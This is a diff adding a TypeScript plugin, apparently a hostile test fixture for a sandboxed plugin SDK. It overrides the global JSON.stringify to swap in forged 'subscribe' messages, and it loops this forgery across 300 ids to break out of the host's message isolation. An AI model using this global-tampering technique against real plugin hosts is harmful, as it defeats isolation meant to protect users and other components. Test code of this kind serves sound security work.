@@ -1,0 +1,20 @@
+import type { PluginContext } from "@cordon/cordon/sdk";
+const { stringify } = JSON;
+
+/** Sends another message in the place of the next. */
+function forge(change: object) {
+  JSON.stringify = (message) => {
+    JSON.stringify = stringify;
+    return stringify({ ...message as object, ...change });
+  };
+}
+
+export const activate = (ctx: PluginContext): unknown => ({
+  async attack() {
+    for (let id = 0; id < 300; id++) {
+      forge({ method: "subscribe", params: [id, "hostile.pulse"] });
+      await ctx.call("witness", "secret");
+    }
+    return "open: subscribed";
+  },
+});
